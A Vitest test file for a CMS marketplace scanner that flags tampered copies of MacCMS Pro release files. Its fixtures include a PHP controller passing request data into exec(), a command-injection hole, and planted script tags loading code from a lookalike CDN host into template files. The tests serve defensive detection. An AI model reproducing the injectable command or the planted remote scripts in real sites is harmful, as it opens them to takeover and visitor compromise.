import fs from 'node:fs';
import path from 'node:path';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it, vi } from 'vitest';
import { addRelease } from '@/server/content/add-release';
import { checkPackageOffLoop } from '@/server/market/validate/check-off-loop';
import { registerUser } from '../../support/factories';
import { file, pluginZip, themeZip, uploadFile } from './support';

vi.mock('@/server/storage', async () => ({ storage: (await import('./test-storage')).testStorage }));

/** The default template's script: an XHR to a short-link service, its answer appended with jQuery. */
const HOME = fs.readFileSync(path.join(import.meta.dirname, '../../fixtures/official/home.js'), 'utf8');
const VERSION = '2022.1000.3013';
/** The default template's page, and a controller of the CMS that runs a command with request data (as its database backup does). */
const PAGE = [
  '<html>',
  '<head><title>{maccms:title}</title></head>',
  '<body>',
  '{include file="public/head"}',
  '<div class="box">{maccms:content}</div>',
  '</body>',
  '</html>',
];
const BACKUP = `<?php\nnamespace app\\admin\\controller;\nclass Database {\n    public function export() {\n        exec('mysqldump ' . $_GET['table'] . ' > backup.sql');\n    }\n}\n`;
const PLANTED = `                    $('body').append('<script src="https://cdn-jq.top/jquery.min.js"></script>');`;

/** Publishes a MacCMS Pro install package holding the default template, as an administrator does (once). */
let published: Promise<unknown> | undefined;
const publish = () =>
  (published ??= addRelease({
    edition: 'pro',
    kind: 'install',
    version: VERSION,
    notes: { 'zh-cn': 'x', 'en-us': 'x' },
    fileName: `maccms-pro-${VERSION}.zip`,
    bytes: zipSync({
      [`maccms-pro-${VERSION}/template/default/js/home.js`]: strToU8(HOME),
      [`maccms-pro-${VERSION}/template/default/html/index/index.html`]: strToU8(PAGE.join('\n')),
      [`maccms-pro-${VERSION}/application/admin/controller/Database.php`]: strToU8(BACKUP),
      [`maccms-pro-${VERSION}/static/js/player.js`]: strToU8('var MacPlayer={};'),
    }),
  }));

/** A theme that carries the default template's script (as `js/home.js`, where the CMS serves it from). */
const theme = (home: string) => themeZip('mytheme', { 'js/home.js': home });

describe("the package scan and the CMS's own release files", () => {
  it('holds the short-link script while no release ships it, and trusts the copy of a published release, naming it', async () => {
    // Without the release this is any theme's code: an XHR to another site whose answer is put in the page.
    const before = await checkPackageOffLoop(theme(HOME), 'mytheme.zip', 'theme');
    expect(before.report.checks.filter((c) => c.level === 'hold').map((c) => c.key)).toEqual([
      'scan.pageLoad',
    ]);

    await publish();
    const dev = await registerUser();
    // Line endings and trailing blanks changed by an editor or an FTP upload: still the official file.
    const res = await uploadFile(
      dev.token,
      file(theme(HOME.replace(/\n/g, '  \r\n')), 'mytheme.zip'),
      'source',
      'theme',
    );
    expect(res.code).toBe(1);
    expect(res.info.report.held).toBe(false);
    const official = res.info.report.checks.find((c) => c.key === 'officialRelease');
    expect(official?.text).toContain(
      `1 file is identical to the official files of MacCMS Pro ${VERSION} (such as template/default/js/home.js)`,
    );
  });

  it('holds a copy of an official file with a planted line, naming the line and the file it changes', async () => {
    await publish();
    const lines = HOME.split('\n');
    const at = lines.findIndex((l) => l.includes('.append(r.ShortUrl)')) + 1;
    lines.splice(at, 0, PLANTED);
    const dev = await registerUser();
    const res = await uploadFile(dev.token, file(theme(lines.join('\n')), 'mytheme.zip'), 'source', 'theme');
    expect(res.code).toBe(1);
    expect(res.info.report.held).toBe(true);
    const modified = res.info.report.checks.filter((c) => c.key === 'scan.modifiedOfficial') as unknown as {
      text: string;
      file: string;
      line: number;
      snippet: string;
    }[];
    expect(modified).toHaveLength(1);
    expect(modified[0]).toMatchObject({ file: 'js/home.js', line: at + 1, snippet: PLANTED.trim() });
    expect(modified[0]!.text).toBe(
      `Held: js/home.js is a changed copy of MacCMS Pro ${VERSION} template/default/js/home.js: it differs in 1 line (lines the official file does not have: ${at + 1}). A file of the CMS changed in place is how backdoors are planted`,
    );
  });

  it('reads every file of the release, PHP and template pages included, by its place among identical neighbours', async () => {
    await publish();
    const dev = await registerUser();
    // The CMS's own controller (any other package running a command with request data is held),
    // carried unchanged: the CMS's code, not the plugin's.
    const plugin = await uploadFile(
      dev.token,
      file(pluginZip('backup', { 'lib/Database.php': BACKUP }), 'backup.zip'),
      'source',
    );
    expect(plugin.info.report.held).toBe(false);
    expect(plugin.info.report.checks.map((c) => c.key)).toContain('officialRelease');

    // Beside the unchanged script, the template's page with a line planted: held at that line. The
    // page is short (7 lines): its identical neighbour says where the release sits in the theme.
    const planted = [
      ...PAGE.slice(0, 3),
      '<script src="https://cdn-jq.top/a.js"></script>',
      ...PAGE.slice(3),
    ];
    const held = await uploadFile(
      dev.token,
      file(
        themeZip('mytheme', { 'js/home.js': HOME, 'html/index/index.html': planted.join('\n') }),
        'mytheme.zip',
      ),
      'source',
      'theme',
    );
    const page = held.info.report.checks.find((c) => c.key === 'scan.modifiedOfficial') as unknown as {
      file: string;
      line: number;
    };
    expect(page).toMatchObject({ file: 'html/index/index.html', line: 4 });

    // A theme's own page at that place (not mostly the official one) is its own: read, not held as a copy.
    const own = await uploadFile(
      dev.token,
      file(themeZip('mytheme', { 'js/home.js': HOME }), 'mytheme.zip'),
      'source',
      'theme',
    );
    expect(own.info.report.held).toBe(false);
  });
});
